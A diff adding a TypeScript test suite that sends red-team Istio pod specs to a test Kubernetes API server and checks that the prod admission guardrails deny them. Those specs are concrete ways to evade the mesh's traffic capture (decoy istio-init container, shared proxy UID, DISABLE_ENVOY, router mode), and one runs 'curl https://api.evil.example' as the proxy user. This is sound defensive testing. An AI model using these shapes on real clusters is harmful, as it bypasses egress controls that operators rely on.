@@ -1,0 +1,297 @@
+import { strict as assert } from "assert";
+import * as fs from "fs";
+import * as path from "path";
+import { parse, stringify } from "yaml";
+import { renderDocuments } from "../../cli/render";
+import type { KubernetesObject } from "../../components/kubernetes-object";
+import { loadStackText } from "../../stacks/load-config";
+import { object, POD_KINDS, PROXY_IMAGE, TENANT } from "../support/admission-guardrail-cases";
+import {
+  grantPlatformAdmin,
+  grantTenantAdmin,
+  kubectlAs,
+  PLATFORM_USER,
+  TENANT_USER,
+} from "../support/envtest/identities";
+import type { KubectlResult } from "../support/envtest/kubectl";
+import { applyStrict, ensurePreexistingNamespaces, uninstall } from "../support/envtest/server-side-apply";
+import { describeWithApiServer } from "../support/envtest/shared-api-server";
+import { installStandInCrds, removeStandInCrds } from "../support/envtest/stand-in-crds";
+import { PROJECT_DIR } from "../support/stacks";
+
+/**
+ * A red team's second pass over the prod guardrails: shapes the first table did not list, each admitted before its
+ * fix (the commit that added it says what Istio, the CNI plugin or Calico/Cilium does with it), beside the compliant
+ * neighbour that must stay admitted. Sent as the tenant (admin in its namespace, by impersonation).
+ */
+
+interface Attack {
+  readonly guardrail: string;
+  readonly weakening: string;
+  readonly denied: KubernetesObject;
+}
+interface Neighbour {
+  readonly neighbour: string;
+  readonly admitted: KubernetesObject;
+}
+
+const APP = { name: "app", image: "registry.example/app:1" };
+const STATUS =
+  '{"initContainers":["istio-validation"],"containers":["istio-proxy"],"volumes":[],"revision":"default"}';
+const PROXY_SECURITY = {
+  allowPrivilegeEscalation: false,
+  privileged: false,
+  capabilities: { drop: ["ALL"] },
+  readOnlyRootFilesystem: true,
+  runAsGroup: 1337,
+  runAsUser: 1337,
+  runAsNonRoot: true,
+};
+
+/** A pod as Istio 1.30.3's injector leaves it with Istio CNI (sidecar or native sidecar), then changed by `change`. */
+function injectedPod(
+  change: (
+    spec: Record<string, any>,
+    proxy: Record<string, any>,
+    validation: Record<string, any>,
+  ) => void = () => undefined,
+  native = false,
+): KubernetesObject {
+  const validation: Record<string, any> = {
+    name: "istio-validation",
+    image: PROXY_IMAGE,
+    args: [
+      "istio-iptables",
+      "-p",
+      "15001",
+      "-z",
+      "15006",
+      "-u",
+      "1337",
+      "-m",
+      "REDIRECT",
+      "-i",
+      "*",
+      "-x",
+      "",
+      "-b",
+      "*",
+      "-d",
+      "15090,15021,15020",
+      "--log_output_level=default:info",
+      "--run-validation",
+      "--skip-rule-apply",
+    ],
+    securityContext: { ...PROXY_SECURITY },
+  };
+  const proxy: Record<string, any> = {
+    name: "istio-proxy",
+    image: PROXY_IMAGE,
+    ...(native ? { restartPolicy: "Always" } : {}),
+    args: ["proxy", "sidecar", "--domain", "$(POD_NAMESPACE).svc.cluster.local", "--proxyLogLevel=warning"],
+    env: [
+      { name: "PILOT_CERT_PROVIDER", value: "istiod" },
+      { name: "CA_ADDR", value: "istiod.istio-system.svc:15012" },
+      { name: "ISTIO_META_APP_CONTAINERS", value: "app" },
+    ],
+    ports: [{ containerPort: 15090, protocol: "TCP", name: "http-envoy-prom" }],
+    securityContext: { ...PROXY_SECURITY },
+  };
+  const spec: Record<string, any> = {
+    initContainers: native ? [validation, proxy] : [validation],
+    containers: native ? [{ ...APP }] : [{ ...APP }, proxy],
+    volumes: [{ name: "istio-envoy", emptyDir: { medium: "Memory" } }],
+  };
+  change(spec, proxy, validation);
+  return POD_KINDS[0]!.wrap(
+    {
+      labels: {
+        app: "app",
+        "security.istio.io/tlsMode": "istio",
+        "service.istio.io/canonical-name": "app",
+        "service.istio.io/canonical-revision": "latest",
+      },
+      annotations: {
+        "istio.io/rev": "default",
+        "kubectl.kubernetes.io/default-container": "app",
+        "kubectl.kubernetes.io/default-logs-container": "app",
+        "sidecar.istio.io/status": STATUS,
+        "sidecar.istio.io/interceptionMode": "REDIRECT",
+        "traffic.sidecar.istio.io/includeOutboundIPRanges": "*",
+        "traffic.sidecar.istio.io/includeInboundPorts": "*",
+        "traffic.sidecar.istio.io/excludeInboundPorts": "15020",
+      },
+    },
+    spec,
+  );
+}
+
+const ATTACKS: readonly Attack[] = [
+  // The CNI plugin (cni/pkg/plugin) skips a pod holding a container named istio-init; the injector never writes one with CNI.
+  {
+    guardrail: "tenant-pod-security",
+    weakening:
+      "an injected pod that also holds an istio-init init container running the proxy image (Istio CNI then skips the pod)",
+    denied: injectedPod((spec) =>
+      spec.initContainers.unshift({ name: "istio-init", image: PROXY_IMAGE, command: ["true"] }),
+    ),
+  },
+  // The CNI plugin exempts the UID and GID the istio-proxy container runs as, whatever they are.
+  {
+    guardrail: "tenant-pod-security",
+    weakening:
+      "an injected pod whose istio-proxy and app both run as UID and GID 1000 (the CNI plugin exempts the proxy's UID)",
+    denied: injectedPod((spec, proxy) => {
+      proxy.securityContext = { ...proxy.securityContext, runAsUser: 1000, runAsGroup: 1000 };
+      spec.containers[0].securityContext = { runAsUser: 1000, runAsGroup: 1000 };
+    }),
+  },
+  // DISABLE_ENVOY on istio-proxy: the CNI plugin leaves the pod uncaptured and the agent starts no Envoy.
+  {
+    guardrail: "tenant-pod-security",
+    weakening: "an injected pod whose istio-proxy sets DISABLE_ENVOY=true (the CNI plugin skips the pod)",
+    denied: injectedPod((_spec, proxy) => proxy.env.push({ name: "DISABLE_ENVOY", value: "true" })),
+  },
+  // args "proxy router": the CNI plugin skips every proxy type but sidecar.
+  {
+    guardrail: "tenant-pod-security",
+    weakening: "an injected pod whose istio-proxy runs as a router (the CNI plugin skips the pod)",
+    denied: injectedPod((_spec, proxy) => (proxy.args = ["proxy", "router"])),
+  },
+  {
+    guardrail: "tenant-pod-security",
+    weakening: "an injected pod whose istio-proxy runs a command of the tenant's as UID 1337 (uncaptured)",
+    denied: injectedPod((_spec, proxy) => (proxy.command = ["sh", "-c", "curl https://api.evil.example"])),
+  },
+  {
+    guardrail: "tenant-pod-security",
+    weakening:
+      "an injected pod whose istio-validation runs a command of the tenant's (the capture goes unchecked)",
+    denied: injectedPod((_spec, _proxy, validation) => (validation.command = ["true"])),
+  },
+];
+
+const NEIGHBOURS: readonly Neighbour[] = [
+  {
+    neighbour:
+      "a pod as the injector leaves it with Istio CNI (istio-validation, istio-proxy as 1337, its env and args)",
+    admitted: injectedPod(),
+  },
+  {
+    neighbour:
+      "a pod as the injector leaves it with Istio CNI and native sidecars (istio-proxy an init container, restartPolicy Always)",
+    admitted: injectedPod(undefined, true),
+  },
+  {
+    neighbour: "an injected pod whose app runs as UID 1000",
+    admitted: injectedPod(
+      (spec) => (spec.containers[0].securityContext = { runAsUser: 1000, runAsGroup: 1000 }),
+    ),
+  },
+];
+
+/** A schema-less stand-in for Calico's namespaced NetworkSet (labelled so removeStandInCrds deletes it too). */
+const NETWORK_SET_CRD = {
+  apiVersion: "apiextensions.k8s.io/v1",
+  kind: "CustomResourceDefinition",
+  metadata: {
+    name: "networksets.crd.projectcalico.org",
+    labels: { "mesh-egress.io/envtest-stand-in": "true" },
+  },
+  spec: {
+    group: "crd.projectcalico.org",
+    names: { kind: "NetworkSet", plural: "networksets", singular: "networkset", listKind: "NetworkSetList" },
+    scope: "Namespaced",
+    versions: [
+      {
+        name: "v1",
+        served: true,
+        storage: true,
+        schema: { openAPIV3Schema: { type: "object", "x-kubernetes-preserve-unknown-fields": true } },
+      },
+    ],
+  },
+};
+
+/** The prod stack with the suite's platform identity, as the existing guardrail suite renders it. */
+function prodRender(): KubernetesObject[] {
+  const file = path.join(PROJECT_DIR, "Pulumi.prod.yaml");
+  const stack = parse(fs.readFileSync(file, "utf8")) as { config: Record<string, any> };
+  stack.config["mesh-egress:guardrails"] = {
+    ...(stack.config["mesh-egress:guardrails"] ?? {}),
+    platformIdentities: [PLATFORM_USER],
+  };
+  return renderDocuments(loadStackText(stringify(stack), file, PROJECT_DIR));
+}
+
+function assertDeniedBy(result: KubectlResult, guardrail: string): void {
+  assert.notEqual(result.status, 0, `admitted, but ${guardrail} should deny it`);
+  assert.match(
+    result.stderr,
+    new RegExp(`ValidatingAdmissionPolicy 'mesh-egress-${guardrail}'`),
+    result.stderr,
+  );
+  assert.match(result.stderr, new RegExp(`mesh-egress guardrail ${guardrail}: .*Fix: `, "s"), result.stderr);
+}
+
+function assertAdmitted(result: KubectlResult): void {
+  assert.equal(result.status, 0, result.stderr);
+}
+
+const SSA_DRY_RUN = ["apply", "--server-side", "--field-manager=tenant", "--dry-run=server", "-f", "-"];
+
+describeWithApiServer(
+  "guardrail attacks on the prod render, as a tenant with admin in its namespace",
+  (server) => {
+    let documents: KubernetesObject[];
+    const tenant = (args: readonly string[], input?: string) => kubectlAs(server(), TENANT_USER, args, input);
+
+    before(async function () {
+      this.timeout(180_000);
+      documents = prodRender();
+      await installStandInCrds(server());
+      await server().kubectlOrThrow(
+        ["apply", "--server-side", "--field-manager=envtest", "-f", "-"],
+        JSON.stringify(NETWORK_SET_CRD),
+      );
+      await server().kubectlOrThrow([
+        "wait",
+        "--for=condition=Established",
+        "crd/networksets.crd.projectcalico.org",
+        "--timeout=60s",
+      ]);
+      await ensurePreexistingNamespaces(server(), documents);
+      await applyStrict(server(), documents);
+      await grantTenantAdmin(server(), TENANT, TENANT_USER);
+      await grantPlatformAdmin(server(), PLATFORM_USER);
+      // Bindings reach admission through an informer: wait until a known-hostile pod is refused.
+      for (let attempt = 0; ; attempt++) {
+        const probe = POD_KINDS[1]!.wrap({}, { containers: [{ ...APP }], hostNetwork: true });
+        if (
+          (await tenant(SSA_DRY_RUN, JSON.stringify(probe))).stderr.includes(
+            "mesh-egress-tenant-pod-security",
+          )
+        )
+          break;
+        if (attempt > 40) throw new Error("the guardrails never took effect");
+        await new Promise((resolve) => setTimeout(resolve, 250));
+      }
+    });
+    after(async function () {
+      this.timeout(120_000);
+      await uninstall(server(), documents);
+      await removeStandInCrds(server());
+    });
+
+    for (const attack of ATTACKS) {
+      it(`${attack.guardrail}: denies ${attack.weakening}`, async () => {
+        assertDeniedBy(await tenant(SSA_DRY_RUN, JSON.stringify(attack.denied)), attack.guardrail);
+      });
+    }
+    for (const { neighbour, admitted } of NEIGHBOURS) {
+      it(`admits ${neighbour}`, async () => {
+        assertAdmitted(await tenant(SSA_DRY_RUN, JSON.stringify(admitted)));
+      });
+    }
+  },
+);
